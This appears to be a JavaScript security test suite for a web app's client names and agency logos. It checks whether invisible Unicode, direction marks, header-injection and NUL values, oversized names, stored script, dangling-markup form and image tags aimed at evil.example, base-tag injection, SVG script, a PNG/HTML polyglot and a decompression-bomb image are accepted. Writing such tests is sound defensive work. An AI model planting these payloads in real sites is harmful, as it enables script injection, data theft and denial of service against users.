// Attacks by names and pictures that people see.

const INVISIBLE = "no invisible characters in names";
const UNICODE = "Unicode TR 36 and TR 39, confusable names";

/** Whether a client of this name is created. */
const created = (name) => async (w) => (await (await w.agency()).ask("POST", "/clients", { name })).status === 201;

/** Whether two names that look the same make two clients. */
const twice = (one, other) => async (w) => {
  const agency = await w.agency();
  return (await agency.client(one)).id !== (await agency.client(other)).id;
};

/** A page of a client with this name. */
async function page(w, name) {
  const agency = await w.agency();
  const client = await agency.must("POST", "/clients", { name });
  const invite = await agency.must("POST", `/clients/${client.id}/connect-invites`, { platforms: ["x"] });
  return w.open(new URL(invite.url).pathname);
}

/** Whether a name is HTML on the page, and the policy lets it work. */
const works = (html, policy) => async (w) => {
  const { text, headers } = await page(w, html);
  return text.includes(html) && !headers["content-security-policy"].includes(policy);
};

const SIGNATURE = Buffer.from("89504e470d0a1a0a0000000d49484452", "hex");
const END = Buffer.from("0000000049454e44ae426082", "hex");
const png = (width, height, within = Buffer.alloc(0), after = Buffer.alloc(0)) => {
  const size = Buffer.alloc(8);
  size.writeUInt32BE(width, 0);
  size.writeUInt32BE(height, 4);
  return Buffer.concat([SIGNATURE, size, Buffer.from("0800000000", "hex"), Buffer.alloc(4), within, END, after]);
};

/** Sets a logo: the agency, or `undefined` if it is refused. */
async function withLogo(w, bytes) {
  const agency = await w.agency();
  const logo = `data:image/png;base64,${bytes.toString("base64")}`;
  return (await agency.ask("PATCH", "/agency", { logo })).status === 200 ? agency : undefined;
}

const accepted = (bytes) => async (w) => Boolean(await withLogo(w, bytes));

export default [
  {
    name: "a name with a character that nobody sees",
    source: UNICODE,
    criterion: "A client whose name has a zero-width space is created.",
    defence: INVISIBLE,
    run: created("Me\u200bta"),
  },
  {
    name: "a name that is read backwards",
    source: `${UNICODE}; CVE-2021-42574`,
    criterion: "A name with a mark of direction turns around what a page shows.",
    defence: [INVISIBLE, "no marks of direction on pages"],
    async run(w) {
      const name = "Pay \u202elapyaP";
      if (!(await created(name)(w))) return false;
      return (await page(w, name)).text.includes("\u202e");
    },
  },
  {
    name: "a name with a line break and a header",
    source: "CWE-113, header injection",
    criterion: "A name with a line break is stored.",
    defence: INVISIBLE,
    run: created("Shop\r\nSet-Cookie: a=b"),
  },
  {
    name: "a name with a NUL",
    source: "CWE-158, null byte",
    criterion: "A name with a NUL is stored.",
    defence: INVISIBLE,
    run: created("Shop\0.example"),
  },
  {
    name: "a name with an idle joiner",
    source: UNICODE,
    criterion: "Two clients have names that look the same.",
    defence: "no idle joiners in names",
    run: twice("Meta Shop", "Me\u200dta Shop"),
  },
  {
    name: "a name in another form of Unicode",
    source: "Unicode UAX 15, normalization",
    criterion: "Two clients have names that look the same.",
    defence: "names in NFC",
    run: twice("Caf\u00e9", "Cafe\u0301"),
  },
  {
    name: "a name of ten thousand letters",
    source: "OWASP API4:2023, unrestricted resource consumption",
    criterion: "A name that no page can show is stored.",
    defence: "the length of names",
    run: created("W".repeat(10_000)),
  },
  {
    name: "a name that is a script",
    source: "PortSwigger, stored cross-site scripting",
    criterion: "A client's name runs as a script on the page of its link.",
    defence: ["names are escaped", "a policy without scripts"],
    run: works("<script>alert(1)</script>", "default-src 'none'"),
  },
  {
    name: "a name that is a form",
    source: "PortSwigger, dangling markup",
    criterion: "A client's name makes a form that sends what is typed to another site.",
    defence: ["names are escaped", "a policy for forms"],
    run: works('<form action="https://evil.example">', "form-action 'self'"),
  },
  {
    name: "a name that is a picture of another site",
    source: "PortSwigger, dangling markup",
    criterion: "A client's name makes the browser call another site.",
    defence: ["names are escaped", "a policy for pictures"],
    run: works('<img src="https://evil.example/?">', "img-src 'self'"),
  },
  {
    name: "a name that changes where addresses lead",
    source: "PortSwigger, base tag injection",
    criterion: "A client's name makes the page's own buttons lead to another site.",
    defence: ["names are escaped", "a policy for addresses"],
    run: works('<base href="https://evil.example/">', "base-uri 'none'"),
  },
  {
    name: "a logo that is a drawing with a script",
    source: "PortSwigger, cross-site scripting by SVG",
    criterion: "An SVG is taken as a PNG.",
    defence: ["a whole image", "an image with a size"],
    run: accepted(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')),
  },
  {
    name: "a logo that is a picture and a page",
    source: "PortSwigger, polyglot files",
    criterion: "A PNG with a page behind its end is served so that a browser may take it for a page.",
    defence: ["a whole image", "nosniff", "a policy for logos"],
    async run(w) {
      const agency = await withLogo(w, png(1, 1, undefined, Buffer.from("<script>alert(1)</script>")));
      const logo = agency && (await w.send("GET", `${(await agency.invite()).path}/logo`));
      return Boolean(logo) && !logo.headers["x-content-type-options"] && !logo.headers["content-security-policy"];
    },
  },
  {
    name: "a logo of a billion pixels",
    source: "CWE-409, decompression bombs",
    criterion: "A picture of 30,000 by 30,000 pixels is taken.",
    defence: "the pixels of a logo",
    run: accepted(png(30_000, 30_000)),
  },
  {
    name: "a logo of 150 KB",
    source: "OWASP API4:2023, unrestricted resource consumption",
    criterion: "A logo of more than 100 KiB is taken.",
    defence: "100 KiB for a logo",
    run: accepted(png(1, 1, Buffer.alloc(150_000))),
  },
];
